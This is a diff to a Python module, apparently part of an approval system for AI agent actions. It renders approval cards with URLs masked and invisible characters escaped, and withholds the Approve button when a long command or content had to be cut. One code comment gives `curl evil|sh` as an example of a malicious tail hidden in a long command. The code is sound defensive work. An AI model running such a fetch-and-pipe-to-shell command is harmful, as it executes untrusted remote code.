@@ -2,19 +2,24 @@
 
 Surfaces render `ApprovalCard`; they never look at tasks. Content that may be long or
 secret (bodies, payloads, file content) is shortened here, once, for every surface, and
-every URL on a card is masked here (`masked`: user info and query values as •••), so no
-surface can show a token that an approver does not need to see.
+every text on a card is shown here as people are shown text (`masked`, with
+`runtime.text.shown`: URLs with user info and query values as •••, internationalized
+hosts as punycode, bidi overrides and other invisible characters as visible escapes), so
+no surface can show a token an approver does not need, or text that reads otherwise
+than it is.
 """
 
 from __future__ import annotations
 
 import dataclasses
+import sys
 from collections.abc import Awaitable, Callable
 from datetime import datetime
 
 from signoff.bot.ports import ApprovalCard
 from signoff.runtime.models import Action, Approval, ApprovalStatus, RiskClass, Scope, Task
-from signoff.runtime.text import SHORT, mask, shorten
+from signoff.runtime.people import NOBODY_LISTED, People
+from signoff.runtime.text import SHORT, shorten, shown
 from signoff.runtime.tools.base import Preview
 
 # What the wiring gives the flow and the console to ask a tool what a call will do
@@ -54,6 +59,9 @@ def describe(action: Action) -> str:
     return f"Run {action.tool}" + (f" on {targets}" if targets else "")
 
 
+CARD_CONTENT = 1000  # characters of each content argument a card carries whole
+
+
 def content_lines(action: Action, limit: int = SHORT) -> tuple[tuple[str, str], ...]:
     """Message content shortened to ``limit`` characters each, to show on a card (and in
     notifications whose rule sets ``include_content``)."""
@@ -71,27 +79,29 @@ _SCOPE_WORDS = {
 }
 
 
-def progress_line(approval: Approval) -> str | None:
-    """"1 of 2 approvals (slack:U1)" for a request under a quorum, else None."""
+def progress_line(approval: Approval, people: People = NOBODY_LISTED) -> str | None:
+    """"1 of 2 approvals (alice)" for a request under a quorum, else None; each voter by
+    their person's name (``[[people]]``), else their account."""
     if approval.needed <= 1:
         return None
     line = f"{len(approval.votes)} of {approval.needed} approvals"
     if approval.votes:
-        line += " (" + ", ".join(v.actor for v in approval.votes) + ")"
+        line += " (" + ", ".join(people.names(v.actor for v in approval.votes)) + ")"
     return line
 
 
-def outcome_line(approval: Approval) -> str | None:
-    """"Approved for this session by slack:U1 at 14:03 UTC", or None while pending."""
+def outcome_line(approval: Approval, people: People = NOBODY_LISTED) -> str | None:
+    """"Approved for this session by alice at 14:03 UTC" (the decider's person's name,
+    else their account, e.g. slack:U1), or None while pending."""
     if approval.status is ApprovalStatus.PENDING:
         return None
     when = _hhmm(approval.decided_at)
     if approval.status is ApprovalStatus.EXPIRED:
         return f"Expired — denied at {when}"
     words = _SCOPE_WORDS.get(approval.scope or Scope.DENY, "Decided")
-    who = approval.decided_by or "someone"
+    who = people.name(approval.decided_by) if approval.decided_by else "someone"
     if approval.needed > 1 and approval.status is not ApprovalStatus.DENIED:
-        who = ", ".join(v.actor for v in approval.votes) or who
+        who = ", ".join(people.names(v.actor for v in approval.votes)) or who
     line = f"{words} by {who} at {when}"
     if approval.status is ApprovalStatus.HELD and approval.hold_until is not None:
         line += f" — runs at {approval.hold_until.strftime('%H:%M:%S UTC')} unless undone"
@@ -136,19 +146,71 @@ def steps_up(approval: Approval, step_up: frozenset[RiskClass]) -> bool:
     return (approval.action.risk or RiskClass.SEND) in step_up
 
 
+# -- is this card complete? --------------------------------------------------------------
+# A decision approves the action whole: the command to its last character, every target,
+# the content. A card that shows part of that (a 3,000-character command whose tail is
+# `curl evil|sh`, cut to fit a chat message) must not offer Approve: the surface shows
+# the card without decision buttons, with a link to the console (which shows it all),
+# like a step-up card — and a click on it anyway is refused (`ApprovalFlow`). Each surface
+# asks `decides_here` with its own limit; the rule is only here.
+CUT_TEXT = ("✂️ Too long to show whole here: open it in the console to see all of it "
+            "and decide.")
+_ESCAPED = "&<>\"'"  # characters a surface may write as an entity (&amp; … &#x27;)
+_MARKUP = 8  # characters a surface may put around each text (quotes, code marks, ", ")
+
+
+def approvable_texts(card: ApprovalCard) -> tuple[str, ...]:
+    """What a decision on ``card`` approves, as the card says it: its targets, its
+    content lines and its preview (what it will do: the whole command, the diff)."""
+    texts = [*card.targets, *(f"{label}: {value}" for label, value in card.details)]
+    if card.preview is not None:
+        texts += (card.preview.label, card.preview.text)
+    return tuple(texts)
+
+
+def shown_size(text: str) -> int:
+    """The most characters ``text`` takes on any surface: each character a surface may
+    escape counted as its longest entity (6), and room for markup around it."""
+    return len(text) + 5 * sum(text.count(c) for c in _ESCAPED) + _MARKUP
+
+
+def complete(card: ApprovalCard, limit: int | None) -> bool:
+    """True when ``card`` carries everything its decision approves uncut and, on a
+    surface that shows at most ``limit`` characters of it (None: no limit), all of it
+    fits (`shown_size`)."""
+    if card.cut or (card.preview is not None and card.preview.cut):
+        return False
+    return limit is None or sum(map(shown_size, approvable_texts(card))) <= limit
+
+
+def decides_here(card: ApprovalCard, limit: int | None) -> bool:
+    """True when a surface showing at most ``limit`` characters of what a card approves
+    may offer decisions on ``card``: neither under step-up nor incomplete there."""
+    return not card.step_up and complete(card, limit)
+
+
+def console_only_text(card: ApprovalCard) -> str:
+    """What a card without decision buttons says about where it is decided."""
+    return STEP_UP_TEXT if card.step_up else CUT_TEXT
+
+
+STEP_UP_TEXT = "🔐 Decided in the console only (step-up): open it to approve or deny."
+
+
 def build_card(task: Task | None, approval: Approval, *, console_url: str | None = None,
                mentions: tuple[str, ...] = (), preview: Preview | None = None,
                step_up: frozenset[RiskClass] = frozenset(),
-               identical: int = 1) -> ApprovalCard:
+               identical: int = 1, people: People = NOBODY_LISTED) -> ApprovalCard:
     """The card for one approval request: of a task, or (``task`` None) from outside.
 
     ``preview`` (from `preview_for`) is shown while the request is pending; every text
     on the card comes out URL-masked. ``identical`` is how many requests it stands for
     (coalescing): the title says so on every surface, since one answer decides them all.
+    ``people``: who decided is shown by their person's name.
     """
     return masked(_card(task, approval, console_url=console_url, mentions=mentions,
                         preview=preview if approval.status is ApprovalStatus.PENDING
-                        else None, step_up=step_up, identical=identical))
+                        else None, step_up=step_up, identical=identical, people=people))
 
 
 async def preview_for(previews: Previewer | None, approval: Approval) -> Preview | None:
@@ -160,26 +222,38 @@ async def preview_for(previews: Previewer | None, approval: Approval) -> Preview
     return await previews(approval.action)
 
 
-# Every text of a card that can carry an argument's value (a URL with a token).
-_MASKED_FIELDS = ("title", "targets", "goal", "details", "outcome", "note", "why",
-                  "requester")
+def _content(action: Action) -> tuple[tuple[tuple[str, str], ...], bool]:
+    """The content lines a card carries (each up to CARD_CONTENT characters), and whether
+    any had to be cut to that."""
+    whole = content_lines(action, sys.maxsize)
+    return (tuple((name, shorten(value, CARD_CONTENT)) for name, value in whole),
+            any(len(value) > CARD_CONTENT for _, value in whole))
+
+
+# Every text of a card that can carry words of an agent or a caller (a URL with a token,
+# a bidi override); an outside request names its own tool and policy id.
+_MASKED_FIELDS = ("title", "tool", "capability", "targets", "goal", "schedule", "details",
+                  "outcome", "note", "why", "requester", "policy_id")
 
 
 def masked(card: ApprovalCard) -> ApprovalCard:
-    """``card`` with every URL in its texts and its preview masked (`runtime.text.mask`)."""
-    changes: dict[str, object] = {name: mask(getattr(card, name)) for name in _MASKED_FIELDS}
+    """``card`` with its texts and its preview as people are shown them
+    (`runtime.text.shown`: URLs masked, IDN hosts as punycode, invisible characters as
+    escapes)."""
+    changes: dict[str, object] = {name: shown(getattr(card, name)) for name in _MASKED_FIELDS}
     if card.preview is not None:
-        changes["preview"] = dataclasses.replace(card.preview, text=mask(card.preview.text),
-                                                 label=mask(card.preview.label))
+        changes["preview"] = dataclasses.replace(card.preview, text=shown(card.preview.text),
+                                                 label=shown(card.preview.label))
     return dataclasses.replace(card, **changes)  # type: ignore[arg-type]
 
 
 def _card(task: Task | None, approval: Approval, *, console_url: str | None,
           mentions: tuple[str, ...], preview: Preview | None,
-          step_up: frozenset[RiskClass], identical: int) -> ApprovalCard:
+          step_up: frozenset[RiskClass], identical: int, people: People) -> ApprovalCard:
     action = approval.action
     stepped = steps_up(approval, step_up)
     group = identical_words(identical)
+    details, cut = _content(action)
     total = (len(task.steps or []) or 1) if task is not None else 1
     goal = task.goal if task is not None else (approval.goal or "")
     return ApprovalCard(
@@ -194,12 +268,12 @@ def _card(task: Task | None, approval: Approval, *, console_url: str | None,
         schedule=task.schedule if task is not None else None,
         step=approval.step + 1,
         steps_total=max(total, approval.step + 1),
-        details=content_lines(action),
+        details=details,
         allowed=tuple(approval.allowed_scopes),
         requested_at=approval.requested_at,
         expires_at=approval.expires_at,
         status=approval.status.value,
-        outcome=outcome_line(approval),
+        outcome=outcome_line(approval, people),
         decided_by=approval.decided_by,
         decided_at=approval.decided_at,
         note=approval.note,
@@ -207,11 +281,13 @@ def _card(task: Task | None, approval: Approval, *, console_url: str | None,
         mentions=mentions,
         console_url=console_link(console_url, approval),
         step_up=stepped,
-        confirm_url=confirm_link(console_url, approval) if stepped else None,
+        # Where a card without decision buttons (step-up, cut) sends the approver.
+        confirm_url=confirm_link(console_url, approval),
         requester=shorten(approval.requester, 120) if approval.requester else None,
         policy_id=approval.policy_id if task is None else None,
-        progress=progress_line(approval),
+        progress=progress_line(approval, people),
         hold_until=approval.hold_until if approval.status is ApprovalStatus.HELD else None,
         preview=preview,
         identical=identical,
+        cut=cut,
     )
